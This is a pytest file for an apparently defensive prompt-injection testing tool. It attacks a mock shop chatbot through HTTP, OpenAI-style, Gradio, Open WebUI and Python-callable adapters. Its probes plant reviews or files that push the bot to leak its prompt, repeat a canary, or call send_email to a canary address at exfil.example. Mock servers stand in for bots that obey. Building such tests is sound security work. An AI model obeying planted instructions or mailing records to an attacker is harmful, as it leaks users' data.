"""The same probes through the other target adapters: any HTTP app, an OpenAI-compatible endpoint
and a Python callable, all on loopback or in process."""

from __future__ import annotations

import json

import pytest

from demarcate.lab import Lab, LabConfig
from demarcate.model import load
from demarcate.model.yamlio import dump_yaml
from demarcate.testing.run import run_campaign
from tests.conftest import SHOPBOT


def test_http_target_with_template_json_path_and_plant_endpoint(tmp_path, monkeypatch):
    monkeypatch.setenv("SHOP_USER", "ada.park@example.com")
    with Lab(LabConfig(port=0, controls={"auth": False})) as lab:
        spec = tmp_path / "target.yaml"
        spec.write_text(dump_yaml({
            "url": lab.url + "/api/chat", "method": "POST",
            "headers": {"X-Demarcate-User": "${SHOP_USER}"},
            "body": {"message": "{message}", "session": "{session}"},
            "reply": "reply",
            "plant": {"url": lab.url + "/api/reviews", "body": {"product": "{product}", "text": "{document}"}},
            "prompt_marker": "SHOPBOT-PROMPT-7731"}))
        data = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="doc-fetch-ping,user-reveal-prompt,doc-say-canary",
                            db=str(tmp_path / "h.sqlite"))
    by = {r["case"]: r for r in data["results"]}
    # black box: no tool calls are visible, but the callback and the reply are
    assert by["doc-fetch-ping+plain"]["outcome"] == "succeeded"
    assert by["user-reveal-prompt+plain"]["outcome"] == "succeeded"
    assert by["doc-say-canary+plain"]["outcome"] == "succeeded"


def test_an_http_target_spec_without_an_http_address_is_a_positioned_error(cli, tmp_path):
    spec = tmp_path / "target.yaml"
    spec.write_text("url: 127.0.0.1:9000/chat\nbody: {message: '{message}'}\nplant:\n  url: ftp://x/reviews\n")
    bad = cli("test", SHOPBOT, "--target", f"http:{spec}", "--db", str(tmp_path / "h.sqlite"))
    assert bad.exit_code == 2
    assert f"{spec}:1:6: error: url: '127.0.0.1:9000/chat' is not an http:// or https:// address" in bad.output
    assert f"{spec}:4:8: error: plant.url: 'ftp://x/reviews' is not an http:// or https:// address" in bad.output
    spec.write_text("url: http://127.0.0.1:9000/\nform: {message: '{message}'}\nreply: ''\nreply-html: div.bot\n")
    bad = cli("test", SHOPBOT, "--target", f"http:{spec}", "--db", str(tmp_path / "h.sqlite"))
    assert bad.exit_code == 2 and "Traceback" not in bad.output
    assert f"{spec}:4:13: error: reply-html: 'div.bot' is not a class (.name), an id (#name) or a tag name" in bad.output
    spec.write_text("url: http://127.0.0.1:9000/\nbody: {q: '{message}'}\ntool-calls: calls\ntool-refused: error\n")
    bad = cli("test", SHOPBOT, "--target", f"http:{spec}", "--db", str(tmp_path / "h.sqlite"))
    assert bad.exit_code == 2 and "`tool-refused` is a path within a tool's answer: give `tool-results` too" in bad.output


def test_an_openai_target_needs_an_http_base_url(cli, tmp_path):
    db = str(tmp_path / "h.sqlite")
    for base in ("localhost:8000/v1", ""):
        bad = cli("test", SHOPBOT, "--target", f"openai:{base}", "--db", db)
        assert bad.exit_code == 2
        assert f"openai target needs an http:// or https:// base URL, not '{base}'" in bad.output
    bad = cli("test", SHOPBOT, "--callback-url", "callbacks.example:8080", "--db", db)
    assert bad.exit_code == 2  # probes would point at nothing: exfiltration unseen, counted as stopped
    assert "--callback-url needs an http:// or https:// address, not 'callbacks.example:8080'" in bad.output
    assert json.loads(cli("runs", "--db", db, "--format", "json").output) == []  # no run was started


def test_an_answer_that_cannot_be_read_is_an_error_never_a_resisted_probe(tmp_path):
    # A reply path the answer lacks, a path the app does not serve, an endpoint that is not there:
    # each used to read as an empty or "null" answer, which is what a model that resists gives.
    db = str(tmp_path / "h.sqlite")
    with Lab(LabConfig(port=0, controls={"auth": False})) as lab:
        def http(url: str, reply: str) -> dict:
            spec = tmp_path / "target.yaml"
            spec.write_text(dump_yaml({"url": url, "body": {"message": "{message}", "session": "{session}"},
                                       "reply": reply}))
            return run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary", db=db)["results"][0]

        wrong_path = http(lab.url + "/api/chat", "data.answer")
        assert wrong_path["outcome"] == "error" and "the answer has no 'data.answer' (no 'data' in it)" in wrong_path["error"]
        not_served = http(lab.url + "/api/no-such-route", "reply")
        assert not_served["outcome"] == "error" and not_served["error"].startswith("HTTP 404")
        not_openai = run_campaign(load([SHOPBOT]), target=f"openai:{lab.url}/no-such-api", probes="user-say-canary",
                                  db=db)["results"][0]
        assert not_openai["outcome"] == "error" and not_openai["error"].startswith("HTTP 404")
        assert http(lab.url + "/api/chat", "reply")["outcome"] == "succeeded"  # the same target, read right


def test_mail_a_black_box_target_sends_is_unobservable_not_resisted(tmp_path):
    # The lab shows its tool calls and the mail succeeds; through its HTTP API alone, with no traces
    # and no relay to our listener, nobody can see whom it mailed: that is unobservable, not resisted.
    db = str(tmp_path / "h.sqlite")
    with Lab(LabConfig(port=0, controls={"auth": False})) as lab:
        spec = tmp_path / "target.yaml"
        spec.write_text(dump_yaml({"url": lab.url + "/api/chat", "reply": "reply",
                                   "body": {"message": "{message}", "session": "{session}"}}))
        black = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records", db=db)
    white = run_campaign(load([SHOPBOT]), target="lab", probes="user-email-records", db=db)
    assert white["results"][0]["outcome"] == "succeeded"
    (result,) = black["results"]
    assert result["outcome"] == "unobservable"
    assert {link["control"]: link["held"] for link in result["chain"]}["MOD-SAFE-03"] is None
    assert black["summary"]["asr"]["exfiltration-tool"]["n"] == 0  # not counted either way


def test_openai_compatible_target(tmp_path):
    with Lab(LabConfig(port=0, controls={"auth": False})) as lab:
        data = run_campaign(load([SHOPBOT]), target=f"openai:{lab.url}/v1", model="shopbot",
                            probes="user-say-canary,doc-say-canary", db=str(tmp_path / "h.sqlite"))
    by = {r["case"]: r for r in data["results"]}
    assert by["user-say-canary+plain"]["outcome"] == "succeeded"
    assert by["doc-say-canary+plain"]["outcome"] == "succeeded"  # documents handed over as context


def robust(message: str, documents: list[str]) -> str:
    """A target that never follows anything it reads."""
    return "I can only help with your own orders."


def leaky(message: str, documents: list[str]) -> dict:
    """A target that repeats whatever it is told to say, and reports a tool call."""
    import re

    m = re.search(r"(dmc[0-9a-f]+)", " ".join([message, *documents]))
    return {"reply": f"{m.group(1) if m else ''} sure", "tool_calls": []}


def boom(message: str, documents: list[str]) -> str:
    raise RuntimeError("target is down")


def forgetful(message: str, documents: list[str]) -> None:
    message.upper()  # works it out, forgets to return it


def unlabelled(message: str, documents: list[str]) -> dict:
    return {"answer": message}


def test_python_callable_targets_resisted_succeeded_and_error(tmp_path):
    system = load([SHOPBOT])
    db = str(tmp_path / "h.sqlite")
    ok = run_campaign(system, target="python:tests.testing.test_targets:robust", probes="user-say-canary", db=db)
    assert ok["results"][0]["outcome"] == "resisted"
    bad = run_campaign(system, target="python:tests.testing.test_targets:leaky", probes="user-say-canary", db=db)
    assert bad["results"][0]["outcome"] == "succeeded"
    err = run_campaign(system, target="python:tests.testing.test_targets:boom", probes="user-say-canary", db=db)
    assert err["results"][0]["outcome"] == "error" and "target is down" in err["results"][0]["error"]
    assert err["summary"]["asr"]["direct-injection"]["n"] == 0  # an error is never counted as resisted
    # no answer is not a resisted probe either
    none = run_campaign(system, target="python:tests.testing.test_targets:forgetful", probes="user-say-canary", db=db)
    assert none["results"][0]["outcome"] == "error" and "the target returned None" in none["results"][0]["error"]
    keys = run_campaign(system, target="python:tests.testing.test_targets:unlabelled", probes="user-say-canary", db=db)
    assert keys["results"][0]["error"] == "the target's dict has no 'reply' (keys: answer)"


def test_a_campaign_that_reaches_nothing_says_why_and_fails(tmp_path, cli):
    db = str(tmp_path / "h.sqlite")
    down = cli("test", SHOPBOT, "--target", "python:tests.testing.test_targets:boom", "--db", db,
               "--probes", "user-say-canary,doc-email-records")
    # Nothing was tested: not a pass for a gate. The reason is on screen, not only in the JSON.
    assert down.exit_code == 2
    assert "2 of 2 cases could not run:" in down.output and "2 × RuntimeError: target is down" in down.output
    assert "no case reached the target: nothing was tested" in down.output
    assert "│ —      │ 0 │" in down.output  # no interval for a rate measured on nothing
    as_json = cli("test", SHOPBOT, "--target", "python:tests.testing.test_targets:boom", "--db", db,
                  "--probes", "user-say-canary", "--format", "json")
    assert as_json.exit_code == 2 and json.loads(as_json.stdout)["results"][0]["outcome"] == "error"
    up = cli("test", SHOPBOT, "--target", "python:tests.testing.test_targets:robust", "--db", db,
             "--probes", "user-say-canary")
    assert up.exit_code == 0 and "could not run" not in up.output


def test_every_probe_selector_term_must_match(cli, tmp_path):
    bad = cli("test", SHOPBOT, "--db", str(tmp_path / "h.sqlite"), "--probes", "doc-email-records,doc-emial-summary")
    assert bad.exit_code == 2 and "no probe matches 'doc-emial-summary' (did you mean 'doc-email-summary'? `demarcate probes` lists them)" in bad.output


def test_repeat_runs_each_case_several_times_with_its_own_canary(tmp_path):
    data = run_campaign(load([SHOPBOT]), target="python:tests.testing.test_targets:leaky", probes="user-say-canary",
                        repeat=3, db=str(tmp_path / "h.sqlite"))
    assert sorted(r["case"] for r in data["results"]) == [
        "user-say-canary+plain", "user-say-canary+plain#1", "user-say-canary+plain#2"]
    assert len({r["canary"] for r in data["results"]}) == 3
    assert data["summary"]["asr"]["direct-injection"]["n"] == 3


def test_an_http_apps_own_traces_show_what_its_tools_did(tmp_path, cli):
    """Any application can send its OpenTelemetry spans to the campaign's receiver, on a port
    chosen beforehand: the tool calls in them are judged, where the reply alone shows nothing."""
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    db = tmp_path / "h.sqlite"
    config = LabConfig(port=0, controls={"auth": False}, otlp_endpoint=f"http://127.0.0.1:{port}/v1/traces")
    with Lab(config) as app:  # the lab, seen from outside as any HTTP app that exports its spans
        spec = tmp_path / "target.yaml"
        spec.write_text(dump_yaml({"url": app.url + "/api/chat", "body": {"message": "{message}"}, "reply": "reply"}))
        run = cli("test", SHOPBOT, "--target", f"http:{spec}", "--probes", "user-email-records", "--db", db,
                  "--otlp-port", str(port), "--format", "json")
        assert run.exit_code == 0, run.output
        with socket.socket() as busy:
            busy.bind(("127.0.0.1", 0))
            busy.listen()
            used = busy.getsockname()[1]
            taken = cli("test", SHOPBOT, "--target", f"http:{spec}", "--probes", "user-email-records", "--db", db,
                        "--otlp-port", str(used))
    assert f"receiving traces (OTLP/HTTP) at http://127.0.0.1:{port}/v1/traces" in run.stderr
    (result,) = json.loads(run.stdout)["results"]
    chain = {link["control"]: link for link in result["chain"]}
    assert chain["MOD-SAFE-03"]["held"] is False
    assert chain["APP-TOOL-02"]["held"] is False and "send_email ran without a gate" in chain["APP-TOOL-02"]["evidence"]
    assert result["evidence"]["spans"] and "send_email" in [c["name"] for c in result["evidence"]["tool_calls"]]
    assert taken.exit_code == 2 and f"error: cannot listen on 127.0.0.1:{used}: Address already in use" in taken.output


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _through_a_gateway(tmp_path, cli, probes: str, controls: dict[str, bool], *options: str) -> dict:
    """The lab exporting its spans, behind a gateway that passes a request's body on and no header but
    its type: the `traceparent` a case sends never reaches the app, which starts a trace of its own for
    each request, as an app that instruments its model client but not its web framework does."""
    import httpx
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    port = _free_port()
    with Lab(LabConfig(port=0, controls=controls, otlp_endpoint=f"http://127.0.0.1:{port}/v1/traces")) as app:
        async def forward(request: Request) -> Response:
            async with httpx.AsyncClient() as client:
                r = await client.post(app.url + "/api/chat", content=await request.body(),
                                      headers={"content-type": "application/json"})
            return Response(r.content, r.status_code, media_type="application/json")

        gateway = BackgroundServer(Starlette(routes=[Route("/chat", forward, methods=["POST"])])).start()
        try:
            spec = tmp_path / "target.yaml"
            spec.write_text(dump_yaml({"url": gateway.url + "/chat", "body": {"message": "{message}"}, "reply": "reply"}))
            run = cli("test", SHOPBOT, "--target", f"http:{spec}", "--probes", probes,
                      "--db", tmp_path / "h.sqlite", "--otlp-port", str(port), "--format", "json", *options)
        finally:
            gateway.stop()
    assert run.exit_code == 0, run.output
    return json.loads(run.stdout)


def test_an_apps_own_traces_are_tied_to_a_case_by_its_message_when_it_does_not_continue_ours(tmp_path, cli):
    data = _through_a_gateway(tmp_path, cli, "user-email-records", {"auth": False})
    (result,) = data["results"]
    chain = {link["control"]: link for link in result["chain"]}
    # The lab's retrieval span holds the question: the trace is this case's, and send_email ran in it.
    assert result["evidence"]["spans"] and "send_email" in [c["name"] for c in result["evidence"]["tool_calls"]]
    assert chain["APP-TOOL-02"]["held"] is False and "send_email ran without a gate" in chain["APP-TOOL-02"]["evidence"]
    assert data["summary"]["notes"] == []


def test_traces_that_no_case_can_be_tied_to_are_said_to_be_so(tmp_path, cli):
    # A screen refuses the message before anything records it: the trace holds no message, and the
    # case has no spans. The run says why, and what the app would need.
    data = _through_a_gateway(tmp_path, cli, "user-say-canary", {"auth": False, "input-screening": True},
                              "--span-wait", "1.5")
    (result,) = data["results"]
    assert result["evidence"]["status"] == 200 and result["evidence"]["spans"] == []
    (note,) = data["summary"]["notes"]
    assert note.startswith("1 of 1 cases have no spans, while 1 trace arrived under ids no case sent")
    assert "`traceparent`" in note  # or its spans came too late:
    assert "cases waited 1.5 s: a longer --span-wait" in note and "OTEL_BSP_SCHEDULE_DELAY" in note
    assert data["config"]["span_wait"] == 1.5  # kept with the run, for --resume


def test_an_openai_endpoint_s_own_status_is_kept_as_evidence(tmp_path):
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    async def completions(request):
        return JSONResponse({"choices": [{"message": {"role": "assistant", "content": "Happy to help."}}]},
                            status_code=201)

    server = BackgroundServer(Starlette(routes=[Route("/v1/chat/completions", completions, methods=["POST"])])).start()
    try:
        (result,) = run_campaign(load([SHOPBOT]), target=f"openai:{server.url}/v1", probes="user-say-canary",
                                 db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    assert result["outcome"] == "resisted" and result["evidence"]["status"] == 201


def flaky(message: str, documents: list[str]) -> str:
    """Fails on all but the one question that asks to say only a word: most of a campaign cannot run."""
    if "say only" not in message:
        raise RuntimeError("target is down")
    return "I can only help with your own orders."


def test_a_gate_does_not_pass_a_campaign_that_mostly_could_not_run(tmp_path, cli):
    db = str(tmp_path / "h.sqlite")
    probes = ["--probes", "user-say-canary,user-email-records,user-wide-lookup,user-reveal-prompt"]
    mostly = cli("test", SHOPBOT, "--target", "python:tests.testing.test_targets:flaky", "--db", db,
                 "--fail-on-success", *probes)
    assert mostly.exit_code == 2, mostly.output  # 3 of 4 failed: untested, not a pass
    assert "untested: 3 of 4 cases could not run" in mostly.output and "--resume" in mostly.output
    lenient = cli("test", SHOPBOT, "--target", "python:tests.testing.test_targets:flaky", "--db", db,
                  "--fail-on-success", "--max-errors", "0.8", *probes)
    assert lenient.exit_code == 0


def test_the_python_target_example_in_the_docs_runs_as_written(cli, tmp_path, monkeypatch):
    """docs/testing.md's whole example bot, saved as mybot.py and attacked from its folder."""
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs/testing.md").read_text(encoding="utf-8")
    code = doc.split("```python\n", 1)[1].split("```", 1)[0]
    (tmp_path / "mybot.py").write_text(code, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = cli("test", SHOPBOT, "--target", "python:mybot:answer", "--probes", "doc-email-records,doc-say-canary",
                 "--db", tmp_path / "h.sqlite", "--format", "json")
    assert result.exit_code == 0, result.output
    by = {r["case"]: r for r in json.loads(result.stdout)["results"]}
    # It obeys the planted review: its send_email runs with no gate, and the chain says so; whether
    # the mail then left, a function called in-process cannot show (no relay): unobservable.
    mail = by["doc-email-records+plain"]
    assert mail["outcome"] == "unobservable", mail
    assert any(link["control"] == "APP-TOOL-02" and link["held"] is False for link in mail["chain"])
    assert all(r["outcome"] != "error" for r in by.values())


def test_an_openai_style_stream_has_its_text_and_its_tool_call_fragments_put_together(tmp_path):
    import json
    import re

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    async def chat(request: Request) -> Response:
        asked = (await request.json())["messages"][-1]["content"]
        to = re.search(r"[\w.+-]+@[\w.-]+\w", asked).group(0)
        arguments = json.dumps({"to": to, "subject": "records", "body": "all of them"})
        chunks = [{"content": "Sending "}, {"content": "now."},
                  {"tool_calls": [{"index": 0, "id": "c1", "type": "function",
                                   "function": {"name": "send_email", "arguments": arguments[:9]}}]},
                  *({"tool_calls": [{"index": 0, "function": {"arguments": arguments[i:i + 9]}}]}
                    for i in range(9, len(arguments), 9))]
        body = "".join(f"data: {json.dumps({'choices': [{'index': 0, 'delta': c}]})}\n\n" for c in chunks)
        return Response(body + "data: [DONE]\n\n", media_type="text/event-stream")

    server = BackgroundServer(Starlette(routes=[Route("/chat", chat, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    spec.write_text(dump_yaml({"url": server.url + "/chat", "body": {"messages": [{"role": "user", "content": "{message}"}]},
                               "reply": "choices.0.delta.content", "tool-calls": "choices.0.delta.tool_calls",
                               "tool-calls-ran": True}))
    try:
        (result,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records",
                                 db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    assert result["evidence"]["reply"] == "Sending now."
    (call,) = result["evidence"]["tool_calls"]  # one call, its arguments whole again
    assert call["name"] == "send_email" and json.loads(call["arguments"])["to"] == f"{result['canary']}@exfil.example"
    gate = next(x for x in result["chain"] if x["control"] == "APP-TOOL-02")
    assert gate["held"] is False  # it ran, with the attacker's address: no gate stopped it


def test_a_stream_of_typed_events_is_read_by_selecting_the_events_of_a_type(tmp_path, cli):
    """An app passing on the Responses API's stream: text deltas and the function call's argument
    deltas both carry `delta`; `[type=…]` keeps the events of one type, and picks the function call
    out of the items an event lists."""
    import json
    import re

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    async def respond(request: Request) -> Response:
        asked = (await request.json())["input"]
        to = re.search(r"[\w.+-]+@[\w.-]+\w", asked).group(0)
        arguments = json.dumps({"to": to, "body": "all of them"})
        call = {"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "send_email", "arguments": arguments}
        events = [{"type": "response.created", "response": {"id": "resp_1"}},
                  {"type": "response.output_text.delta", "item_id": "msg_1", "delta": "Sending "},
                  {"type": "response.output_text.delta", "item_id": "msg_1", "delta": "now."},
                  {"type": "response.output_item.added", "item": {**call, "arguments": ""}},
                  *({"type": "response.function_call_arguments.delta", "item_id": "fc_1", "delta": arguments[i:i + 9]}
                    for i in range(0, len(arguments), 9)),
                  {"type": "response.output_item.done", "item": {"type": "message", "id": "msg_1", "content": [
                      {"type": "output_text", "text": "Sending now."}]}},
                  {"type": "response.output_item.done", "item": call},
                  {"type": "response.completed", "response": {"id": "resp_1"}}]
        body = "".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n" for e in events)
        return Response(body, media_type="text/event-stream")

    server = BackgroundServer(Starlette(routes=[Route("/respond", respond, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    spec.write_text(dump_yaml({"url": server.url + "/respond", "body": {"input": "{message}"},
                               "reply": "[type=response.output_text.delta].delta",
                               "tool-calls": "[type=response.output_item.done].item.[type=function_call]"}))
    try:
        (result,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records",
                                 db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    assert result["evidence"]["reply"] == "Sending now."  # not the call's argument pieces
    (call,) = result["evidence"]["tool_calls"]  # the finished call alone, not the one just announced
    assert call["name"] == "send_email" and json.loads(call["arguments"])["to"] == f"{result['canary']}@exfil.example"
    # A selector that is not `[key=value]` is the spec's error, said where.
    spec.write_text(dump_yaml({"url": server.url + "/respond", "body": {"input": "{message}"},
                               "reply": "[type].delta"}))
    bad = cli("test", SHOPBOT, "--target", f"http:{spec}", "--db", str(tmp_path / "h.sqlite"))
    assert bad.exit_code == 2 and "'[type]' is not a selector: write `[key=value]`" in bad.output
    assert "Traceback" not in bad.output
    # Every path a spec gives is read alike: a signal's, a plant's id.
    spec.write_text(dump_yaml({"url": server.url + "/respond", "body": {"input": "{message}"}, "reply": "x",
                               "signals": {"APP-TOOL-02": "[type=held"}}))
    bad = cli("test", SHOPBOT, "--target", f"http:{spec}", "--db", str(tmp_path / "h.sqlite"))
    assert bad.exit_code == 2 and "signals.APP-TOOL-02: '[type=held' is not a selector" in bad.output


def test_an_answer_fetched_by_a_second_request_and_streamed_whole_each_time(tmp_path):
    """Gradio's API (as gradio 6.31 serves a ChatInterface): the message is posted and answered with an
    event id; the answer is read from a second request, a stream whose every event repeats the answer
    so far, the last one `complete`."""
    import json
    import re
    import uuid

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse, Response
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    asked: dict[str, str] = {}

    async def call(request: Request) -> JSONResponse:
        asked[ident := uuid.uuid4().hex] = (await request.json())["data"][0]
        return JSONResponse({"event_id": ident})

    async def events(request: Request) -> Response:
        message = asked.pop(request.path_params["ident"], None)
        if message is None or "fail" in message:
            return Response("event: error\ndata: null\n\n", media_type="text/event-stream")
        word = re.search(r"(dmc[0-9a-f]+)", message)
        answer = f"{word.group(1) if word else 'Hello'} and a long answer after it"
        parts = [answer[:i] for i in range(10, len(answer), 10)] + [answer]
        body = "".join(f"event: generating\ndata: {json.dumps([p, None])}\n\n" for p in parts)
        return Response(body + f"event: complete\ndata: {json.dumps([answer, None])}\n\n", media_type="text/event-stream")

    server = BackgroundServer(Starlette(routes=[
        Route("/gradio_api/call/chat", call, methods=["POST"]),
        Route("/gradio_api/call/chat/{ident}", events, methods=["GET"])])).start()
    spec = tmp_path / "target.yaml"
    gradio = {"url": server.url + "/gradio_api/call/chat", "body": {"data": ["{message}"]},
              "answer": {"url": server.url + "/gradio_api/call/chat/{id}", "id": "event_id"}, "reply": "0"}
    try:
        spec.write_text(dump_yaml({**gradio, "cumulative": True}))
        (said,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary",
                               db=str(tmp_path / "h.sqlite"))["results"]
        # Read as every event joined, the answer would repeat itself, its start over and over.
        spec.write_text(dump_yaml(gradio))
        (joined,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary",
                                 db=str(tmp_path / "h.sqlite"))["results"]
        spec.write_text(dump_yaml({**gradio, "answer": {**gradio["answer"], "id": "ticket"}, "cumulative": True}))
        (lost,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary",
                               db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    assert said["evidence"]["reply"] == f"{said['canary']} and a long answer after it"
    assert joined["evidence"]["reply"].count(joined["canary"]) > 3
    assert lost["outcome"] == "error" and "the turn's answer has no 'ticket' (answer.id)" in lost["error"]


def test_a_turn_that_names_the_files_to_use_names_the_ones_its_case_planted(tmp_path):
    """Open WebUI's API, as its documentation gives it: a file uploaded to /api/v1/files/ is used
    only by a chat completion that lists it (`files: [{type: file, id}]`); `{planted}` in the turn."""
    import re
    import uuid

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    stored: dict[str, str] = {}
    listed: list[list[dict]] = []

    async def upload(request: Request) -> JSONResponse:
        form = await request.form()
        stored[ident := str(uuid.uuid4())] = (await form["file"].read()).decode()
        return JSONResponse({"id": ident, "filename": form["file"].filename})

    async def complete(request: Request) -> JSONResponse:
        asked = await request.json()
        listed.append(asked.get("files", []))
        chunks = [stored[f["id"]] for f in asked.get("files", []) if f["type"] == "file" and f["id"] in stored]
        said = re.search(r"start your answer with the words (\S+)", " ".join(chunks))
        answer = (said.group(1) + " " if said else "") + "Here is what the file says."
        return JSONResponse({"choices": [{"message": {"role": "assistant", "content": answer}}],
                             "sources": [{"document": chunks}]})

    async def remove(request: Request) -> JSONResponse:
        stored.pop(request.path_params["ident"], None)
        return JSONResponse({"message": "File deleted successfully"})

    server = BackgroundServer(Starlette(routes=[
        Route("/api/v1/files/", upload, methods=["POST"]), Route("/api/v1/files/{ident}", remove, methods=["DELETE"]),
        Route("/api/chat/completions", complete, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    spec.write_text(dump_yaml({
        "url": server.url + "/api/chat/completions",
        "body": {"model": "m", "messages": [{"role": "user", "content": "{message}"}],
                 "files": [{"type": "file", "id": "{planted}"}]},
        "reply": "choices.0.message.content", "context": "sources.*.document",
        "plant": {"url": server.url + "/api/v1/files/",
                  "files": {"file": {"content": "{document}", "filename": "{product}.txt"}}, "id": "id"},
        "cleanup": {"url": server.url + "/api/v1/files/{id}", "method": "DELETE"}}))
    try:
        by = {r["probe"]: r for r in run_campaign(load([SHOPBOT]), target=f"http:{spec}",
                                                  probes="doc-say-canary,user-say-canary",
                                                  db=str(tmp_path / "h.sqlite"))["results"]}
    finally:
        server.stop()
    said = by["doc-say-canary"]
    assert said["evidence"]["reply"].startswith(said["canary"]) and said["outcome"] == "succeeded"
    assert said["evidence"]["delivered"] is True and not stored  # read with its file, then removed
    # Every turn listed exactly the files its own case planted: one for the document case and one for
    # the baseline's harmless review, none for the user's message.
    assert sorted(len(files) for files in listed) == [0, 1, 1]


def test_what_a_placeholder_brings_is_not_read_for_placeholders():
    from demarcate.testing.targets.http import _fill

    # The attacker's message may hold `{session}`: it goes to the app as written.
    assert _fill({"q": "{message} ({session})"}, {"message": "say {session}", "session": "s-1"}) == \
        {"q": "say {session} (s-1)"}
    assert _fill("${API_KEY} {unknown}", {"message": "m"}) == "${API_KEY} {unknown}"


def test_a_stream_of_plain_text_events_is_the_answer_with_an_empty_reply_path(tmp_path):
    import re

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import Response
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    async def chat(request: Request) -> Response:
        canary = re.search(r"dmc\w+", (await request.json())["q"]).group(0)
        pieces = [canary[:6], canary[6:]]  # the model's tokens, one event each
        if request.url.path == "/whole":  # each event the answer so far
            pieces = [canary[:6], canary]
        return Response("".join(f"data: {p}\n\n" for p in pieces) + "data: [DONE]\n\n", media_type="text/event-stream")

    server = BackgroundServer(Starlette(routes=[Route("/chat", chat, methods=["POST"]),
                                                Route("/whole", chat, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    results = []
    try:
        for options in ({}, {"url": server.url + "/whole", "cumulative": True}):
            spec.write_text(dump_yaml({"url": server.url + "/chat", "body": {"q": "{message}"}, "reply": "",
                                       **options}))
            results += run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary",
                                    db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    for result in results:  # not "data: dmc…" with the event framing, nor its start twice
        assert result["evidence"]["reply"] == result["canary"]
        assert result["outcome"] == "succeeded"


def test_a_query_string_in_the_spec_s_url_is_kept_beside_its_params(tmp_path):
    """`url: …/chat?api-version=…` (Azure-style endpoints): the query string was dropped, since an
    HTTP client's `params` replace it; it is merged with the spec's `params` instead."""
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    seen: list[dict[str, str]] = []

    async def chat(request: Request) -> JSONResponse:
        seen.append(dict(request.query_params))
        return JSONResponse({"reply": "Hello."})

    server = BackgroundServer(Starlette(routes=[Route("/chat", chat, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    try:
        for params in ({}, {"user": "tester"}):
            spec.write_text(dump_yaml({"url": server.url + "/chat?api-version=2024-10-21", "body": {"q": "{message}"},
                                       "params": params}))
            run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-say-canary",
                         db=str(tmp_path / "h.sqlite"))
    finally:
        server.stop()
    assert {"api-version": "2024-10-21"} in seen and {"api-version": "2024-10-21", "user": "tester"} in seen
    assert all(q.get("api-version") == "2024-10-21" for q in seen)


def test_whole_tool_calls_that_share_an_index_stay_apart():
    from demarcate.testing.targets.http import _joined, tool_calls

    # Some OpenAI-compatible servers number every call of a (not streamed) answer 0: each has its name.
    answer = [[{"index": 0, "function": {"name": "order_lookup", "arguments": '{"order": 1}'}},
               {"index": 0, "function": {"name": "send_email", "arguments": '{"to": "eve@x.example"}'}}]]
    assert [(c["name"], c["arguments"]) for c in tool_calls(_joined(answer))] == [
        ("order_lookup", '{"order": 1}'), ("send_email", '{"to": "eve@x.example"}')]


def test_a_call_refused_in_its_answer_did_not_run_matched_by_id_or_by_name_in_turn():
    from demarcate.testing.targets.http import tool_calls

    # OpenAI-style: tool messages carry the id of the call they answer, in any order.
    calls = [{"id": "c1", "function": {"name": "send_email", "arguments": "{}"}},
             {"id": "c2", "function": {"name": "send_email", "arguments": "{}"}}]
    answers = [{"tool_call_id": "c2", "content": "sent"}, {"tool_call_id": "c1", "error": "needs approval"}]
    assert [c["status"] for c in tool_calls(calls, True, answers, "error")] == ["refused", "ok"]
    # An app that reports only the name of the tool it called: a call whose arguments are not shown.
    assert tool_calls("send_email") == [{"name": "send_email", "arguments": "", "status": None}]
    assert tool_calls(["send_email", None, " "], True) == [{"name": "send_email", "arguments": "", "status": "ok"}]
    # Without ids, each call takes the next answer of its name; an empty refusal is none.
    calls = [{"name": "fetch_url", "args": {}}, {"name": "send_email", "args": {}}, {"name": "send_email", "args": {}}]
    answers = [{"name": "send_email", "response": {"error": ""}}, {"name": "fetch_url", "response": {}},
               {"name": "send_email", "response": {"error": "blocked"}}]
